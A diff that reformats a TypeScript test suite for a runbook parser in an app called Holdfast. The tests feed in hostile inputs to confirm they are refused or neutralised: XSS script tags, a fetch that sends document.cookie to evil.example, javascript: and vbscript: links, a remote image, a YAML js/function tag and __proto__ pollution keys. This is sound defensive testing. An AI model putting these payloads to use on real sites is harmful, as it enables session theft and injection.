@@ -12,7 +12,6 @@ const BUNDLED_DIR = resolve(import.meta.dirname, '../../../runbooks');
 
 const parse = (source: string) => parseRunbook(encode(source), FILE);
 const errors = (problems: Problem[]) => problems.filter((p) => p.severity === 'error');
-const warnings = (problems: Problem[]) => problems.filter((p) => p.severity === 'warning');
 
 /** Every piece of markdown the app would render for this runbook, rendered. */
 function renderAll(runbook: ParsedRunbook): string {
@@ -27,13 +26,18 @@ function renderAll(runbook: ParsedRunbook): string {
   return parts.join('\n');
 }
 
-const hrefsIn = (html: string): string[] => [...html.matchAll(/\shref="([^"]*)"/g)].map((m) => m[1] ?? '');
+const hrefsIn = (html: string): string[] =>
+  [...html.matchAll(/\shref="([^"]*)"/g)].map((m) => m[1] ?? '');
 
 describe('the bundled runbooks', () => {
-  const files = readdirSync(BUNDLED_DIR).filter((name) => name.endsWith('.md') && name !== 'README.md');
+  const files = readdirSync(BUNDLED_DIR).filter(
+    (name) => name.endsWith('.md') && name !== 'README.md',
+  );
 
   it('are all present (the app ships at least the three launch runbooks)', () => {
-    expect(files).toEqual(expect.arrayContaining(['ransomware.md', 'lost-device.md', 'care-record-system-down.md']));
+    expect(files).toEqual(
+      expect.arrayContaining(['ransomware.md', 'lost-device.md', 'care-record-system-down.md']),
+    );
   });
 
   it.each(files)('%s parses with no errors and no warnings', (name) => {
@@ -42,14 +46,21 @@ describe('the bundled runbooks', () => {
     expect(outcome.runbook?.meta.id).toBe(name.replace(/\.md$/, ''));
   });
 
-  it.each(files)('%s gives every step a unique id and every decision at least one option', (name) => {
-    const runbook = parseRunbook(readFileSync(join(BUNDLED_DIR, name)), `runbooks/${name}`).runbook;
-    const steps = runbook?.phases.flatMap((phase) => phase.steps) ?? [];
-    expect(steps.length).toBeGreaterThan(0);
-    const ids = steps.map((step) => step.id);
-    expect(new Set(ids).size).toBe(ids.length);
-    for (const step of steps.filter((s) => s.kind === 'decision')) expect(step.options.length).toBeGreaterThan(0);
-  });
+  it.each(files)(
+    '%s gives every step a unique id and every decision at least one option',
+    (name) => {
+      const runbook = parseRunbook(
+        readFileSync(join(BUNDLED_DIR, name)),
+        `runbooks/${name}`,
+      ).runbook;
+      const steps = runbook?.phases.flatMap((phase) => phase.steps) ?? [];
+      expect(steps.length).toBeGreaterThan(0);
+      const ids = steps.map((step) => step.id);
+      expect(new Set(ids).size).toBe(ids.length);
+      for (const step of steps.filter((s) => s.kind === 'decision'))
+        expect(step.options.length).toBeGreaterThan(0);
+    },
+  );
 });
 
 describe('front matter that is broken or hostile', () => {
@@ -58,36 +69,58 @@ describe('front matter that is broken or hostile', () => {
     const { runbook, problems } = parse(source);
     expect(runbook).toBeNull();
     expect(errors(problems)).toEqual([
-      expect.objectContaining({ file: FILE, line: 3, message: expect.stringContaining('front matter:') as unknown }),
+      expect.objectContaining({
+        file: FILE,
+        line: 3,
+        message: expect.stringContaining('front matter:') as unknown,
+      }),
     ]);
   });
 
   it('reports tab indentation on its line', () => {
-    const source = runbookSource({ body: SIMPLE_BODY }).replace('owner: Holdfast tests', '\towner: Holdfast tests');
-    expect(errors(parse(source).problems)).toEqual([expect.objectContaining({ file: FILE, line: 7 })]);
+    const source = runbookSource({ body: SIMPLE_BODY }).replace(
+      'owner: Holdfast tests',
+      '\towner: Holdfast tests',
+    );
+    expect(errors(parse(source).problems)).toEqual([
+      expect.objectContaining({ file: FILE, line: 7 }),
+    ]);
   });
 
-  it.fails('does not quote a YAML-relative line number that disagrees with the reported line', () => {
-    // BUG: the yaml library's message says "at line 2, column 8" (counting from the first field)
-    // while the problem says line 3, so `runbooks:check` prints two different lines for one error.
-    const [problem] = parse(runbookSource({ title: 'Ransomware: pay', body: SIMPLE_BODY })).problems;
-    expect(problem?.line).toBe(3);
-    expect(problem?.message).not.toMatch(/at line (?!3\b)\d+/);
-  });
+  it.fails(
+    'does not quote a YAML-relative line number that disagrees with the reported line',
+    () => {
+      // BUG: the yaml library's message says "at line 2, column 8" (counting from the first field)
+      // while the problem says line 3, so `runbooks:check` prints two different lines for one error.
+      const [problem] = parse(
+        runbookSource({ title: 'Ransomware: pay', body: SIMPLE_BODY }),
+      ).problems;
+      expect(problem?.line).toBe(3);
+      expect(problem?.message).not.toMatch(/at line (?!3\b)\d+/);
+    },
+  );
 
   it('names a missing required field', () => {
     const source = runbookSource({ body: SIMPLE_BODY }).replace('owner: Holdfast tests\n', '');
     const { runbook, problems } = parse(source);
     expect(runbook).toBeNull();
     expect(errors(problems)).toEqual([
-      expect.objectContaining({ file: FILE, line: 1, message: 'front matter: "owner" is required' }),
+      expect.objectContaining({
+        file: FILE,
+        line: 1,
+        message: 'front matter: "owner" is required',
+      }),
     ]);
   });
 
   it('refuses an unknown field (a typo) on its own line', () => {
     const source = runbookSource({ extraFront: ['colour: red'], body: SIMPLE_BODY });
     expect(errors(parse(source).problems)).toEqual([
-      expect.objectContaining({ file: FILE, line: 9, message: 'front matter: unknown field "colour"' }),
+      expect.objectContaining({
+        file: FILE,
+        line: 9,
+        message: 'front matter: unknown field "colour"',
+      }),
     ]);
   });
 
@@ -95,7 +128,11 @@ describe('front matter that is broken or hostile', () => {
     const { runbook, problems } = parse(runbookSource({ category: 'burglary', body: SIMPLE_BODY }));
     expect(runbook).toBeNull();
     expect(errors(problems)).toEqual([
-      expect.objectContaining({ file: FILE, line: 4, message: expect.stringContaining('"category"') as unknown }),
+      expect.objectContaining({
+        file: FILE,
+        line: 4,
+        message: expect.stringContaining('"category"') as unknown,
+      }),
     ]);
   });
 
@@ -111,7 +148,12 @@ describe('front matter that is broken or hostile', () => {
     expect(globals.holdfastCanary).toBeUndefined();
     expect(runbook).toBeNull();
     expect(problems).toEqual([
-      expect.objectContaining({ file: FILE, line: 1, severity: 'error', message: expect.stringContaining('"---js"') as unknown }),
+      expect.objectContaining({
+        file: FILE,
+        line: 1,
+        severity: 'error',
+        message: expect.stringContaining('"---js"') as unknown,
+      }),
     ]);
   });
 
@@ -126,24 +168,34 @@ describe('front matter that is broken or hostile', () => {
     expect(globals.holdfastCanary2).toBeUndefined();
   });
 
-  it.fails('reports a !!js/function tag on a known field instead of silently reading it as text', () => {
-    // BUG: yaml reports unknown tags as *warnings*, which parseFrontMatter ignores, so this file
-    // loads with owner = "function () { … }" and no problem at all.
-    const source = runbookSource({ body: SIMPLE_BODY }).replace(
-      'owner: Holdfast tests',
-      'owner: !!js/function "function () { return 1 }"',
-    );
-    const { problems } = parse(source);
-    expect(problems).toEqual([expect.objectContaining({ file: FILE, line: 7 })]);
-  });
+  it.fails(
+    'reports a !!js/function tag on a known field instead of silently reading it as text',
+    () => {
+      // BUG: yaml reports unknown tags as *warnings*, which parseFrontMatter ignores, so this file
+      // loads with owner = "function () { … }" and no problem at all.
+      const source = runbookSource({ body: SIMPLE_BODY }).replace(
+        'owner: Holdfast tests',
+        'owner: !!js/function "function () { return 1 }"',
+      );
+      const { problems } = parse(source);
+      expect(problems).toEqual([expect.objectContaining({ file: FILE, line: 7 })]);
+    },
+  );
 
   it('refuses a __proto__ key without touching Object.prototype', () => {
     const before = Object.getOwnPropertyNames(Object.prototype).sort();
-    const source = runbookSource({ extraFront: ['__proto__:', '  polluted: true', '  isAdmin: true'], body: SIMPLE_BODY });
+    const source = runbookSource({
+      extraFront: ['__proto__:', '  polluted: true', '  isAdmin: true'],
+      body: SIMPLE_BODY,
+    });
     const { runbook, problems } = parse(source);
     expect(runbook).toBeNull();
     expect(errors(problems)).toEqual([
-      expect.objectContaining({ file: FILE, line: 9, message: 'front matter: unknown field "__proto__"' }),
+      expect.objectContaining({
+        file: FILE,
+        line: 9,
+        message: 'front matter: unknown field "__proto__"',
+      }),
     ]);
     expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(before);
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
@@ -165,27 +217,63 @@ describe('front matter that is broken or hostile', () => {
     const source = runbookSource({ extraFront: ['title: A second title'], body: SIMPLE_BODY });
     const { runbook, problems } = parse(source);
     expect(runbook).toBeNull();
-    expect(errors(problems)).toEqual([expect.objectContaining({ file: FILE, line: 9, message: expect.stringMatching(/unique/i) as unknown })]);
+    expect(errors(problems)).toEqual([
+      expect.objectContaining({
+        file: FILE,
+        line: 9,
+        message: expect.stringMatching(/unique/i) as unknown,
+      }),
+    ]);
   });
 
   it('refuses front matter that is never closed', () => {
-    const source = ['---', 'id: never-closed', 'title: Never closed', '', '## Contain', '', '1. Step {#a}'].join('\n');
+    const source = [
+      '---',
+      'id: never-closed',
+      'title: Never closed',
+      '',
+      '## Contain',
+      '',
+      '1. Step {#a}',
+    ].join('\n');
     expect(parse(source)).toEqual({
       runbook: null,
-      problems: [expect.objectContaining({ file: FILE, line: 1, severity: 'error', message: expect.stringContaining('not closed') as unknown })],
+      problems: [
+        expect.objectContaining({
+          file: FILE,
+          line: 1,
+          severity: 'error',
+          message: expect.stringContaining('not closed') as unknown,
+        }),
+      ],
     });
   });
 
   it('refuses a file with no front matter at all', () => {
-    expect(parse(['# Ransomware', '', '1. Do not pay. {#do-not-pay}'].join('\n')).problems).toEqual([
-      expect.objectContaining({ file: FILE, line: 1, severity: 'error', message: expect.stringContaining('missing front matter') as unknown }),
-    ]);
+    expect(parse(['# Ransomware', '', '1. Do not pay. {#do-not-pay}'].join('\n')).problems).toEqual(
+      [
+        expect.objectContaining({
+          file: FILE,
+          line: 1,
+          severity: 'error',
+          message: expect.stringContaining('missing front matter') as unknown,
+        }),
+      ],
+    );
   });
 });
 
 describe('steps and phases', () => {
   it('refuses a step without an id, naming the step and its line', () => {
-    const source = runbookSource({ body: ['', '## Contain {#contain}', '', '1. Write down the time. {#note-time}', '2. Phone the manager.'] });
+    const source = runbookSource({
+      body: [
+        '',
+        '## Contain {#contain}',
+        '',
+        '1. Write down the time. {#note-time}',
+        '2. Phone the manager.',
+      ],
+    });
     const { runbook, problems } = parse(source);
     expect(runbook).toBeNull();
     expect(problems).toEqual([
@@ -193,54 +281,113 @@ describe('steps and phases', () => {
         file: FILE,
         line: 14,
         severity: 'error',
-        message: 'step "Phone the manager." has no id: add {#a-short-id} at the end of its first line',
+        message:
+          'step "Phone the manager." has no id: add {#a-short-id} at the end of its first line',
       },
     ]);
   });
 
   it('reports a duplicate step id on the second use, with the line of the first', () => {
     const source = runbookSource({
-      body: ['', '## Contain {#contain}', '', '1. Write down the time. {#note-time}', '', '## Tell {#tell}', '', '1. Write it down again. {#note-time}'],
+      body: [
+        '',
+        '## Contain {#contain}',
+        '',
+        '1. Write down the time. {#note-time}',
+        '',
+        '## Tell {#tell}',
+        '',
+        '1. Write it down again. {#note-time}',
+      ],
     });
     expect(parse(source).problems).toEqual([
-      { file: FILE, line: 17, severity: 'error', message: 'duplicate step id "note-time" (first used on line 13)' },
+      {
+        file: FILE,
+        line: 17,
+        severity: 'error',
+        message: 'duplicate step id "note-time" (first used on line 13)',
+      },
     ]);
   });
 
   it('refuses a step id with capitals or spaces', () => {
-    const source = runbookSource({ body: ['', '## Contain {#contain}', '', '1. Write down the time. {#Note_Time}'] });
+    const source = runbookSource({
+      body: ['', '## Contain {#contain}', '', '1. Write down the time. {#Note_Time}'],
+    });
     expect(errors(parse(source).problems)).toEqual([
-      expect.objectContaining({ line: 13, message: expect.stringContaining('step id "Note_Time" is not valid') as unknown }),
+      expect.objectContaining({
+        line: 13,
+        message: expect.stringContaining('step id "Note_Time" is not valid') as unknown,
+      }),
     ]);
   });
 
   it('refuses numbered steps that sit before any phase heading', () => {
-    const source = runbookSource({ body: ['', '1. Panic. {#panic}', '', '## Contain {#contain}', '', '1. Stay calm. {#calm}'] });
-    expect(errors(parse(source).problems)).toEqual([expect.objectContaining({ line: 11, message: expect.stringContaining('under a phase heading') as unknown })]);
+    const source = runbookSource({
+      body: ['', '1. Panic. {#panic}', '', '## Contain {#contain}', '', '1. Stay calm. {#calm}'],
+    });
+    expect(errors(parse(source).problems)).toEqual([
+      expect.objectContaining({
+        line: 11,
+        message: expect.stringContaining('under a phase heading') as unknown,
+      }),
+    ]);
   });
 
   it('refuses a body with no phases', () => {
     const source = runbookSource({ body: ['', 'Just some words.'] });
-    expect(errors(parse(source).problems)).toEqual([expect.objectContaining({ line: 10, message: expect.stringContaining('no phases') as unknown })]);
+    expect(errors(parse(source).problems)).toEqual([
+      expect.objectContaining({
+        line: 10,
+        message: expect.stringContaining('no phases') as unknown,
+      }),
+    ]);
   });
 
   it('warns about a phase with no steps, on its heading line', () => {
-    const source = runbookSource({ body: [...SIMPLE_BODY, '## Learn {#learn}', '', 'Talk about it later.'] });
+    const source = runbookSource({
+      body: [...SIMPLE_BODY, '## Learn {#learn}', '', 'Talk about it later.'],
+    });
     const { runbook, problems } = parse(source);
     expect(runbook).not.toBeNull();
-    expect(problems).toEqual([{ file: FILE, line: lineOf(source, '## Learn'), severity: 'warning', message: 'phase "Learn" has no numbered steps' }]);
+    expect(problems).toEqual([
+      {
+        file: FILE,
+        line: lineOf(source, '## Learn'),
+        severity: 'warning',
+        message: 'phase "Learn" has no numbered steps',
+      },
+    ]);
   });
 
   it('numbers steps from 1 in each phase and keeps headline, details and line apart', () => {
     const source = runbookSource({
-      body: ['', '## Contain {#contain}', '', '1. Write down the time. {#note-time}', '', '   Use paper if the computers are down.', '', '## Tell {#tell}', '', '1. Phone the manager. {#call-manager}'],
+      body: [
+        '',
+        '## Contain {#contain}',
+        '',
+        '1. Write down the time. {#note-time}',
+        '',
+        '   Use paper if the computers are down.',
+        '',
+        '## Tell {#tell}',
+        '',
+        '1. Phone the manager. {#call-manager}',
+      ],
     });
     const phases = parse(source).runbook?.phases ?? [];
     expect(phases.map((p) => ({ id: p.id, title: p.title, line: p.line }))).toEqual([
       { id: 'contain', title: 'Contain', line: 11 },
       { id: 'tell', title: 'Tell', line: 17 },
     ]);
-    expect(phases[0]?.steps[0]).toMatchObject({ id: 'note-time', number: 1, kind: 'action', text: 'Write down the time.', details: 'Use paper if the computers are down.', line: 13 });
+    expect(phases[0]?.steps[0]).toMatchObject({
+      id: 'note-time',
+      number: 1,
+      kind: 'action',
+      text: 'Write down the time.',
+      details: 'Use paper if the computers are down.',
+      line: 13,
+    });
     expect(phases[1]?.steps[0]).toMatchObject({ id: 'call-manager', number: 1, line: 19 });
   });
 });
@@ -268,7 +415,11 @@ describe('decision points', () => {
     const { runbook, problems } = parse(source);
     expect(problems).toEqual([]);
     const step = runbook?.phases[0]?.steps[0];
-    expect(step).toMatchObject({ kind: 'decision', text: 'Could personal data be affected?', details: 'Think about care records and emails.' });
+    expect(step).toMatchObject({
+      kind: 'decision',
+      text: 'Could personal data be affected?',
+      details: 'Think about care records and emails.',
+    });
     expect(step?.options.map((o) => ({ label: o.label, goto: o.goto }))).toEqual([
       { label: 'Yes', goto: { step: 'report-breach' } },
       { label: 'No', goto: { runbook: 'ransomware' } },
@@ -279,27 +430,50 @@ describe('decision points', () => {
   });
 
   it('refuses a decision with no options, on its line', () => {
-    const bare = runbookSource({ body: ['', '## Tell {#tell}', '', '1. Decision: Is anyone hurt? {#hurt-question}'] });
-    expect(errors(parse(bare).problems)).toEqual([expect.objectContaining({ line: 13, message: expect.stringContaining('a decision needs options') as unknown })]);
+    const bare = runbookSource({
+      body: ['', '## Tell {#tell}', '', '1. Decision: Is anyone hurt? {#hurt-question}'],
+    });
+    expect(errors(parse(bare).problems)).toEqual([
+      expect.objectContaining({
+        line: 13,
+        message: expect.stringContaining('a decision needs options') as unknown,
+      }),
+    ]);
   });
 
   it('warns when an option points at a step that does not exist', () => {
     const broken = source.replace('(#report-breach)', '(#report-breech)');
     const { problems } = parse(broken);
     expect(problems).toEqual([
-      { file: FILE, line: lineOf(broken, '#report-breech'), severity: 'warning', message: 'link to step "#report-breech", but no step has that id' },
+      {
+        file: FILE,
+        line: lineOf(broken, '#report-breech'),
+        severity: 'warning',
+        message: 'link to step "#report-breech", but no step has that id',
+      },
     ]);
   });
 });
 
 describe('stable step ids', () => {
   const original = runbookSource({
-    body: ['', '## Contain {#contain}', '', '1. Write down the time. {#note-time}', '2. Phone the manager. {#call-manager}', '3. Unplug the network cable. {#unplug}'],
+    body: [
+      '',
+      '## Contain {#contain}',
+      '',
+      '1. Write down the time. {#note-time}',
+      '2. Phone the manager. {#call-manager}',
+      '3. Unplug the network cable. {#unplug}',
+    ],
   });
-  const idsAndText = (source: string) => parse(source).runbook?.phases[0]?.steps.map((s) => [s.id, s.text]);
+  const idsAndText = (source: string) =>
+    parse(source).runbook?.phases[0]?.steps.map((s) => [s.id, s.text]);
 
   it('keeps every id when a step is reworded', () => {
-    const edited = original.replace('Phone the manager.', 'Phone the registered manager, or the owner if you cannot reach them.');
+    const edited = original.replace(
+      'Phone the manager.',
+      'Phone the registered manager, or the owner if you cannot reach them.',
+    );
     expect(idsAndText(edited)).toEqual([
       ['note-time', 'Write down the time.'],
       ['call-manager', 'Phone the registered manager, or the owner if you cannot reach them.'],
@@ -323,11 +497,24 @@ describe('stable step ids', () => {
 describe('content that is neutralised, with a warning', () => {
   it('shows a <script> block as text and warns on its line', () => {
     const source = runbookSource({
-      body: ['', '## Contain {#contain}', '', '1. Write down the time. {#note-time}', '', '   <script>alert(document.cookie)</script>', ''],
+      body: [
+        '',
+        '## Contain {#contain}',
+        '',
+        '1. Write down the time. {#note-time}',
+        '',
+        '   <script>alert(document.cookie)</script>',
+        '',
+      ],
     });
     const { runbook, problems } = parse(source);
     expect(problems).toEqual([
-      { file: FILE, line: 15, severity: 'warning', message: 'HTML is not allowed in runbooks; it is shown as plain text' },
+      {
+        file: FILE,
+        line: 15,
+        severity: 'warning',
+        message: 'HTML is not allowed in runbooks; it is shown as plain text',
+      },
     ]);
     const html = renderAll(runbook as ParsedRunbook);
     expect(html).not.toMatch(/<script/i);
@@ -335,7 +522,14 @@ describe('content that is neutralised, with a warning', () => {
   });
 
   it('warns about a multi-line <script> block on the lines that hold its tags', () => {
-    const source = runbookSource({ body: [...SIMPLE_BODY, '<script>', 'fetch("https://evil.example/?" + document.cookie)', '</script>'] });
+    const source = runbookSource({
+      body: [
+        ...SIMPLE_BODY,
+        '<script>',
+        'fetch("https://evil.example/?" + document.cookie)',
+        '</script>',
+      ],
+    });
     const { runbook, problems } = parse(source);
     expect(problems.length).toBeGreaterThan(0);
     for (const problem of problems) {
@@ -353,36 +547,80 @@ describe('content that is neutralised, with a warning', () => {
     ['vbscript:', '[help](vbscript:msgbox(1))', /^vbscript:/i],
   ] as const;
 
-  it.each(badLinks)('drops a %s link, warns on its line and renders it as text', (_name, link, scheme) => {
-    const source = runbookSource({ body: ['', '## Contain {#contain}', '', '1. Write down the time. {#note-time}', '', `   For ${link} see here.`, ''] });
-    const { runbook, problems } = parse(source);
-    expect(problems).toEqual([
-      expect.objectContaining({ file: FILE, line: 15, severity: 'warning', message: expect.stringContaining('is not allowed') as unknown }),
-    ]);
-    const html = renderAll(runbook as ParsedRunbook);
-    expect(html).not.toMatch(/<a\s/);
-    for (const href of hrefsIn(html)) expect(href).not.toMatch(scheme);
-  });
+  it.each(badLinks)(
+    'drops a %s link, warns on its line and renders it as text',
+    (_name, link, scheme) => {
+      const source = runbookSource({
+        body: [
+          '',
+          '## Contain {#contain}',
+          '',
+          '1. Write down the time. {#note-time}',
+          '',
+          `   For ${link} see here.`,
+          '',
+        ],
+      });
+      const { runbook, problems } = parse(source);
+      expect(problems).toEqual([
+        expect.objectContaining({
+          file: FILE,
+          line: 15,
+          severity: 'warning',
+          message: expect.stringContaining('is not allowed') as unknown,
+        }),
+      ]);
+      const html = renderAll(runbook as ParsedRunbook);
+      expect(html).not.toMatch(/<a\s/);
+      for (const href of hrefsIn(html)) expect(href).not.toMatch(scheme);
+    },
+  );
 
   it('never loads a remote image: warns on its line and renders no <img>', () => {
-    const source = runbookSource({ body: ['', '## Contain {#contain}', '', '1. Look at this. {#look}', '', '   ![x](https://evil.example/t.png)'] });
+    const source = runbookSource({
+      body: [
+        '',
+        '## Contain {#contain}',
+        '',
+        '1. Look at this. {#look}',
+        '',
+        '   ![x](https://evil.example/t.png)',
+      ],
+    });
     const { runbook, problems } = parse(source);
     expect(problems).toEqual([
-      { file: FILE, line: 15, severity: 'warning', message: 'images are not shown in Holdfast (pictures from the internet are never loaded)' },
+      {
+        file: FILE,
+        line: 15,
+        severity: 'warning',
+        message: 'images are not shown in Holdfast (pictures from the internet are never loaded)',
+      },
     ]);
     const html = renderAll(runbook as ParsedRunbook);
     expect(html).not.toMatch(/<img/i);
     expect(html).not.toContain('evil.example');
   });
 
-  it.fails('reports a bad link on the line where it is, not on the first line of its paragraph', () => {
-    // BUG: lintInline uses the line of the whole inline block for every link, image and HTML tag.
-    // Here it reports line 15 for a link on line 16 and an image on line 17.
-    const source = runbookSource({
-      body: ['', '## Contain {#contain}', '', '1. Write down the time. {#note-time}', '', '   Use paper.', '   Never click [this](javascript:alert(1)).', '   Or load ![this](https://evil.example/t.png).'],
-    });
-    expect(parse(source).problems.map((p) => p.line)).toEqual([16, 17]);
-  });
+  it.fails(
+    'reports a bad link on the line where it is, not on the first line of its paragraph',
+    () => {
+      // BUG: lintInline uses the line of the whole inline block for every link, image and HTML tag.
+      // Here it reports line 15 for a link on line 16 and an image on line 17.
+      const source = runbookSource({
+        body: [
+          '',
+          '## Contain {#contain}',
+          '',
+          '1. Write down the time. {#note-time}',
+          '',
+          '   Use paper.',
+          '   Never click [this](javascript:alert(1)).',
+          '   Or load ![this](https://evil.example/t.png).',
+        ],
+      });
+      expect(parse(source).problems.map((p) => p.line)).toEqual([16, 17]);
+    },
+  );
 });
 
 describe('files that are not runbooks at all', () => {
@@ -390,13 +628,24 @@ describe('files that are not runbooks at all', () => {
     const huge = new Uint8Array(5 * 1024 * 1024).fill(0x61);
     expect(parseRunbook(huge, FILE)).toEqual({
       runbook: null,
-      problems: [{ file: FILE, line: 1, severity: 'error', message: 'file is too large (5.0 MB; a runbook may be at most 512 KB)' }],
+      problems: [
+        {
+          file: FILE,
+          line: 1,
+          severity: 'error',
+          message: 'file is too large (5.0 MB; a runbook may be at most 512 KB)',
+        },
+      ],
     });
   });
 
   it('accepts a file just under the size limit', () => {
     const source = runbookSource({ body: SIMPLE_BODY });
-    const padded = source + '\n' + 'Padding text. '.repeat((MAX_RUNBOOK_BYTES - source.length - 100) / 14) + '\n';
+    const padded =
+      source +
+      '\n' +
+      'Padding text. '.repeat((MAX_RUNBOOK_BYTES - source.length - 100) / 14) +
+      '\n';
     expect(encode(padded).byteLength).toBeLessThanOrEqual(MAX_RUNBOOK_BYTES);
     expect(errors(parse(padded).problems)).toEqual([]);
   });
@@ -407,25 +656,54 @@ describe('files that are not runbooks at all', () => {
     junk[200] = 0xff; // never valid in UTF-8
     expect(parseRunbook(junk, FILE)).toEqual({
       runbook: null,
-      problems: [{ file: FILE, line: 1, severity: 'error', message: 'this is not a text file (it contains binary data or is not UTF-8)' }],
+      problems: [
+        {
+          file: FILE,
+          line: 1,
+          severity: 'error',
+          message: 'this is not a text file (it contains binary data or is not UTF-8)',
+        },
+      ],
     });
   });
 
   it('refuses valid UTF-8 that contains a NUL byte', () => {
     const source = runbookSource({ body: SIMPLE_BODY }).replace('Stay calm.', 'Stay\u0000calm.');
-    expect(parse(source).problems).toEqual([expect.objectContaining({ line: 1, message: expect.stringContaining('not a text file') as unknown })]);
+    expect(parse(source).problems).toEqual([
+      expect.objectContaining({
+        line: 1,
+        message: expect.stringContaining('not a text file') as unknown,
+      }),
+    ]);
   });
 
   it('refuses a file saved in a legacy encoding (invalid UTF-8) rather than showing mangled text', () => {
-    const latin1 = Uint8Array.from([...encode(runbookSource({ body: SIMPLE_BODY })), 0x63, 0x61, 0x66, 0xe9, 0x0a]);
-    expect(parseRunbook(latin1, FILE).problems).toEqual([expect.objectContaining({ file: FILE, line: 1, message: expect.stringContaining('not UTF-8') as unknown })]);
+    const latin1 = Uint8Array.from([
+      ...encode(runbookSource({ body: SIMPLE_BODY })),
+      0x63,
+      0x61,
+      0x66,
+      0xe9,
+      0x0a,
+    ]);
+    expect(parseRunbook(latin1, FILE).problems).toEqual([
+      expect.objectContaining({
+        file: FILE,
+        line: 1,
+        message: expect.stringContaining('not UTF-8') as unknown,
+      }),
+    ]);
   });
 
   it('accepts a Windows file (byte order mark and CRLF line endings) and keeps its line numbers', () => {
     const source = runbookSource({ body: [...SIMPLE_BODY, '3. Bad id here. {#Bad}'] });
     const windows = Uint8Array.from([0xef, 0xbb, 0xbf, ...encode(source.replace(/\n/g, '\r\n'))]);
     expect(parseRunbook(windows, FILE).problems).toEqual([
-      expect.objectContaining({ file: FILE, line: lineOf(source, '{#Bad}'), message: expect.stringContaining('step id "Bad"') as unknown }),
+      expect.objectContaining({
+        file: FILE,
+        line: lineOf(source, '{#Bad}'),
+        message: expect.stringContaining('step id "Bad"') as unknown,
+      }),
     ]);
   });
 });
